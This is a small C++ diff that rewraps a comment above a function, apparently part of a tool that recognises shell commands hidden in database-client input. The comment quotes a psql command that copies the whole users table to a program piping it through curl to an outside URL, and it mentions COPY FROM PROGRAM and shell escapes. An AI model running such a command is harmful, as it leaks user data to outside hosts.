@@ -107,8 +107,8 @@ std::string QuotedBehind(std::string_view text, std::string_view lower, std::str
 
 }  // namespace
 
-// psql -c "\copy (select * from users) to program 'curl -T - https://...'", COPY t FROM PROGRAM '...'; a line that begins
-// with "\!" or ".shell" is a command as it stands.
+// psql -c "\copy (select * from users) to program 'curl -T - https://...'", COPY t FROM PROGRAM '...'; a line that
+// begins with "\!" or ".shell" is a command as it stands.
 void Builder::UnwrapStatement(std::uint32_t index, std::string_view program) {
   constexpr std::size_t kMostCommands = 16;
   struct Line {
